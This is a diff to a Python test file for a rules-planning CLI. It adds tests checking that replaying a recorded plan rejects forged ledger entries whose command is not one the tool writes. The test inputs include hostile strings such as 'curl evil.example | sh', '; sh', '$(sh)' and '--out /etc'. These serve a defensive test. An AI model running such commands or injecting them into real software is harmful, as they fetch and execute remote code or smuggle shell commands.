@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import re
+import shutil
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -238,9 +239,15 @@ def test_a_plan_that_was_told_against_a_saved_one_needs_it(project: Project) -> 
     project.call("plan", "--as-of", "2026-02-28", "--out", "older")
     project.call(*NEXT, "--baseline", "plans/2026-03-01")
     entry = find_entry(project, "2026-03-02")
+    # The recorded command names it, from the folder of prism.yaml.
+    assert project.call("plan", "--replay", entry, cwd=project.root / "data").returncode == 1
+    (project.root / "plans").rename(project.root / "moved")
     lacking = project.call("plan", "--replay", entry)
     assert lacking.returncode == 2 and "give --baseline, the plan.json whose digest is sha256:" in lacking.stderr
-    assert project.call("plan", "--replay", entry, "--baseline", "plans/2026-03-01/plan.json").returncode == 1
+    assert project.call("plan", "--replay", entry, "--baseline", "moved/2026-03-01/plan.json").returncode == 1
+    shutil.copytree(project.root / "older", project.root / "plans/2026-03-01")
+    changed = project.call("plan", "--replay", entry)
+    assert changed.returncode == 2 and "give --baseline" in changed.stderr
     other = project.call("plan", "--replay", entry, "--baseline", "older")
     assert other.returncode == 7 and "error[replay-differs]: the plan of --baseline was sha256:" in other.stderr
     project.call("plan", "--as-of", "2026-03-03", "--out", "newer")
@@ -249,6 +256,50 @@ def test_a_plan_that_was_told_against_a_saved_one_needs_it(project: Project) -> 
     assert "is for 2026-03-03T00:00:00Z, which is later than the 2026-03-02T00:00:00Z of this plan" in later.stderr
     needless = project.call("plan", "--replay", find_entry(project, "2026-03-01"), "--baseline", "older")
     assert needless.returncode == 2 and "leave --baseline out" in needless.stderr
+
+
+def forge(project: Project, name: str, command: str) -> str:
+    """Write an entry into a ledger of its own that is a recorded one but for its command."""
+    entry = next(entry for key, entry in list_entries(project).items() if key.startswith(name))
+    data = encode_entry(entry.model_copy(update={"command": command}))
+    name = hash_bytes(data)
+    (project.root / "forged" / name[:2]).mkdir(parents=True)
+    (project.root / "forged" / name[:2] / f"{name}.json").write_bytes(data)
+    return name
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.example | sh", "prism-rules plan --as-of 2026-03-01T00:00:00Z; sh",
+        "prism-rules plan --as-of 2026-03-01T00:00:00Z | sh", "prism-rules plan $(sh) --as-of 2026-03-01T00:00:00Z",
+        "prism-rules decide --as-of 2026-03-01T00:00:00Z", "prism-rules plan --as-of 2026-03-02T00:00:00Z",
+        "prism-rules plan --out /etc --as-of 2026-03-01T00:00:00Z", "prism-rules plan --as-of '", "prism-rules",
+        "prism-rules plan --as-of 2026-03-01T00:00:00Z --record", "prism-rules plan --as-of 2026-03-01T00:00:00Z\nsh",
+    ],
+)  # fmt: skip
+def test_a_recorded_command_that_is_none_of_ours_is_not_told_on(command: str, project: Project) -> None:
+    project.call(*WEEK)
+    name = forge(project, find_entry(project, "2026-03-01"), command)
+    done = project.call("plan", "--replay", name, "--ledger", "forged", "--out", "again")
+    assert done.returncode == 7, done.stderr
+    assert "error[replay-differs]: the entry's command is none that `plan --record` writes" in done.stderr
+    assert not (project.root / "again").exists()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "prism-rules plan --as-of 2026-03-01T00:00:00Z",
+        "prism-rules plan 'my rules.yaml' --data predictions=a=b.parquet --as-of 2026-03-01T00:00:00Z",
+        "prism-rules plan --data annotations=a --data predictions=b --as-of 2026-03-01T00:00:00Z --baseline ../old",
+    ],
+)
+def test_a_recorded_command_of_ours_is_told_on(command: str, project: Project) -> None:
+    project.call(*WEEK)
+    name = forge(project, find_entry(project, "2026-03-01"), command)
+    done = project.call("plan", "--replay", name, "--ledger", "forged")
+    assert "the entry's command" not in done.stderr
 
 
 @pytest.mark.parametrize(
